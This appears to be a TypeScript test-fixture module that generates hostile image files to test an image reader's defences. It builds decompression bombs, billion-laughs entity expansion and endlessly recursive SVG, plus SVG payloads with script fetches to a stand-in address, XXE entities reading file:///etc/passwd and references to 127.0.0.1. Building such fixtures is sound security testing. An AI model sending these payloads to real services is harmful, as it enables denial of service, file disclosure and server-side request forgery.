import { crc32, deflateSync, gzipSync } from 'node:zlib'
import sharp from 'sharp'

/*
 * Files that an attacker may send as a picture to break its reader, to look around with it or to make
 * it work for ever.
 */

export type Hostile = { what: string; bytes: Buffer; type: string }
/** One that is made when it is needed: most are large. */
type Unmade = Omit<Hostile, 'bytes'> & { make: () => Promise<Buffer> }
type Draw = () => Buffer | string | Promise<Buffer>

const unmade = (files: [string, Draw, string?][]): Unmade[] =>
  files.map(([what, draw, type = SVG]) => ({
    what,
    type,
    make: async () => Buffer.from(await draw()),
  }))

const SVG = 'image/svg+xml'

/** A chunk of a PNG (ISO 15948 §5.3). */
function pngChunk(type: string, data: Buffer): Buffer {
  const body = Buffer.concat([Buffer.from(type, 'latin1'), data])
  const length = Buffer.alloc(4)
  length.writeUInt32BE(data.length)
  const sum = Buffer.alloc(4)
  sum.writeUInt32BE(crc32(body))
  return Buffer.concat([length, body, sum])
}

/** A PNG that says it is that large, and has next to nothing in it. */
export function pngThatSays(width: number, height: number, data = Buffer.alloc(1_000_000)): Buffer {
  const header = Buffer.from([0, 0, 0, 0, 0, 0, 0, 0, 8, 2, 0, 0, 0])
  header.writeUInt32BE(width, 0)
  header.writeUInt32BE(height, 4)
  return Buffer.concat([
    Buffer.from('\x89PNG\r\n\x1a\n', 'latin1'),
    pngChunk('IHDR', header),
    pngChunk('IDAT', deflateSync(data)),
    pngChunk('IEND', Buffer.alloc(0)),
  ])
}

/** The file of a small JPEG whose frame says another size (ITU T.81, B.2.2). */
async function jpegThatSays(width: number, height: number) {
  const bytes = await noise(64, 64).jpeg().toBuffer()
  const frame = bytes.indexOf(Buffer.from([0xff, 0xc0]))
  bytes.writeUInt16BE(height, frame + 5)
  bytes.writeUInt16BE(width, frame + 7)
  return bytes
}

const fourCc = (name: string, data: Buffer) => {
  const head = Buffer.alloc(8)
  head.write(name, 'latin1')
  head.writeUInt32LE(data.length, 4)
  return Buffer.concat([head, data, Buffer.alloc(data.length % 2)])
}
const riff = (...chunks: Buffer[]) =>
  fourCc('RIFF', Buffer.concat([Buffer.from('WEBP'), ...chunks]))

/** WebP's header of a canvas has 24 bits for each edge; `flags` 2 is an animation (RFC 9649 §2.7). */
function webpCanvas(width: number, height: number, flags: number): Buffer {
  const data = Buffer.alloc(10)
  data[0] = flags
  data.writeUIntLE(width - 1, 4, 3)
  data.writeUIntLE(height - 1, 7, 3)
  return fourCc('VP8X', data)
}

/** A lossless WebP whose header says the largest size that it can: 16,384 pixels an edge (RFC 9649 §3.4). */
const largestLossless = () =>
  riff(fourCc('VP8L', Buffer.from([0x2f, 0xff, 0xff, 0xff, 0x0f, 0, 0, 0, 0, 0])))

/** Bytes that no two neighbours have alike */
const PATTERN = Array.from({ length: 251 }, (_, at) => (at * 7_919) % 251)

export function noise(width: number, height: number, channels: 3 | 4 = 3) {
  const data = Buffer.alloc(width * height * channels, Buffer.from(PATTERN))
  return sharp(data, { raw: { width, height, channels } })
}

const svg = (inner: string, attributes = 'width="100" height="100"') =>
  `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" ${attributes}>${inner}</svg>`
export const RECT = '<rect width="60" height="60" fill="#1e40af"/>'

/** Each level is ten of the one before. */
const doublings = (levels: number, of = RECT, times = 10) =>
  `<defs><g id="a0">${of}</g>${Array.from(
    { length: levels },
    (_, level) => `<g id="a${level + 1}">${`<use xlink:href="#a${level}"/>`.repeat(times)}</g>`,
  ).join('')}</defs><use xlink:href="#a${levels}"/>`

const billionLaughs = () => {
  const entities = Array.from(
    { length: 10 },
    (_, level) => `<!ENTITY l${level + 1} "${`&l${level};`.repeat(10)}">`,
  )
  return `<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY l0 "lol">${entities.join('')}]>${svg('<text>&l10;</text>')}`
}

const filtered = (filter: string, attributes = 'x="-1000" y="-1000" width="3000" height="3000"') =>
  `<filter id="f" ${attributes}>${filter}</filter><g filter="url(#f)">${RECT}</g>`

const dataPng = (bytes: Buffer) => `data:image/png;base64,${bytes.toString('base64')}`
const image = (href: string) => `<image width="60" height="60" xlink:href="${href}"/>`

/** Files that take too much memory or time: none of them becomes a picture. */
export const bombs = () =>
  unmade([
    ['a PNG of 65,535 × 65,535 pixels', () => pngThatSays(65_535, 65_535), 'image/png'],
    ['a PNG of 1 × 2,147,483,647 pixels', () => pngThatSays(1, 2 ** 31 - 1), 'image/png'],
    ['a PNG of 0 × 0 pixels', () => pngThatSays(0, 0), 'image/png'],
    ['a JPG of 65,535 × 65,535 pixels', () => jpegThatSays(65_535, 65_535), 'image/jpeg'],
    ['a lossless WebP of 16,384 × 16,384 pixels', largestLossless, 'image/webp'],
    [
      'a WebP whose canvas is 65,535 × 65,535',
      () => riff(webpCanvas(65_535, 65_535, 2), fourCc('ANIM', Buffer.alloc(6))),
      'image/webp',
    ],
    ['an SVG of 1e9 × 1e9 pixels', () => svg(RECT, 'width="1e9" height="1e9"')],
    ['an SVG with an absurd viewBox', () => svg(RECT, 'viewBox="0 0 1e-30 1e30"')],
    ['entities that unfold a billion times', billionLaughs],
    [
      'svg in svg, 100,000 deep',
      () => svg(`${'<svg>'.repeat(100_000)}${'</svg>'.repeat(100_000)}`),
    ],
    ['a gzip of a hundred megabytes', () => gzipSync(Buffer.alloc(100_000_000, ' '))],
    ['no bytes', () => ''],
  ])

/** A file that would be drawn for ever, and is refused after the time that a picture may take. */
export const endless: Hostile = {
  what: 'a use of uses, ten times ten levels',
  bytes: Buffer.from(svg(doublings(10))),
  type: SVG,
}

const TURBULENCE = '<feTurbulence baseFrequency="0.9" numOctaves="1000"/>'

const animation = () =>
  sharp(Buffer.alloc(200 * 200 * 3 * 150, Buffer.from(PATTERN)), {
    raw: { width: 200, height: 200 * 150, channels: 3, pageHeight: 200 },
  })
    .webp({ effort: 0, quality: 30, delay: 10 })
    .toBuffer()

const deep = () =>
  sharp({ create: { width: 4_000, height: 4_000, channels: 4, background: '#123456' } })

/** Files that may be drawn or refused: both stay within the bounds. */
export const burdens = () =>
  unmade([
    ['turbulence in a huge region', () => svg(filtered(TURBULENCE))],
    ['masks in masks', () => svg(masks(2_000))],
    ['a use of uses, ten times five levels', () => svg(doublings(5))],
    ['nested pictures of 16,000 × 16,000', () => svg(image(dataPng(pngThatSays(16_000, 16_000))))],
    [
      'a path of a megabyte',
      () => svg(`<path d="M0 0${'l9 9-9-8'.repeat(250_000)}" stroke="#000"/>`),
    ],
    ['an animation of 150 frames', animation, 'image/webp'],
    [
      '16 megapixels of 16 bits, interlaced',
      () => deep().toColourspace('rgb16').png({ progressive: true }).toBuffer(),
      'image/png',
    ],
    [
      '16 megapixels, progressive and on its side',
      () =>
        deep()
          .removeAlpha()
          .jpeg({ progressive: true, chromaSubsampling: '4:4:4' })
          .withMetadata({ orientation: 6 })
          .toBuffer(),
      'image/jpeg',
    ],
    [
      'a million rows of one pixel',
      () =>
        sharp({ create: { width: 1, height: 1_000_000, channels: 3, background: '#123456' } })
          .png()
          .toBuffer(),
      'image/png',
    ],
  ])

const masks = (count: number) =>
  `<defs>${Array.from(
    { length: count },
    (_, at) =>
      `<mask id="m${at}"><rect width="100" height="100" fill="#fff" mask="url(#m${at + 1})"/></mask>`,
  ).join(
    '',
  )}<mask id="m${count}"><rect width="100" height="100" fill="#fff"/></mask></defs><g mask="url(#m0)">${RECT}</g>`

/** Files that would spy on the reader, or run in it; `address` must never be called. */
export function spies(address: string): Hostile[] {
  const page = `<html xmlns="http://www.w3.org/1999/xhtml"><script src="${address}/page.js"></script></html>`
  const files: [string, string][] = [
    ['a script', svg(`<script>fetch('${address}/a')</script>${RECT}`)],
    ['handlers', svg(RECT, `width="60" height="60" onload="fetch('${address}/load')"`)],
    ['a page in it', svg(`<foreignObject width="60" height="60">${page}</foreignObject>${RECT}`)],
    ['a style from elsewhere', svg(`<style>@import url(${address}/a.css);</style>${RECT}`)],
    ['a style sheet', `<?xml-stylesheet href="${address}/s.css"?>${svg(RECT)}`],
    ['a type from elsewhere', `<!DOCTYPE svg SYSTEM "${address}/svg.dtd">${svg(RECT)}`],
    ...[`${address}/a.png`, 'file:///etc/passwd', '//127.0.0.1/a'].flatMap(
      (href): [string, string][] => [
        [`a picture at ${href.slice(0, 7)}`, svg(RECT + image(href))],
        [`a use of ${href.slice(0, 7)}`, svg(`${RECT}<use xlink:href="${href}#a"/>`)],
        [`a filter with ${href.slice(0, 7)}`, svg(filtered(`<feImage xlink:href="${href}"/>`))],
      ],
    ),
    [
      'an entity of a file',
      `<!DOCTYPE svg [<!ENTITY a SYSTEM "file:///etc/passwd">]>${svg('<text y="20">&a;</text>')}`,
    ],
    [
      'an entity from elsewhere',
      `<!DOCTYPE svg [<!ENTITY % a SYSTEM "${address}/a.dtd">%a;]>${svg(RECT)}`,
    ],
  ]
  return files.map(([what, text]) => ({ what, bytes: Buffer.from(text), type: SVG }))
}
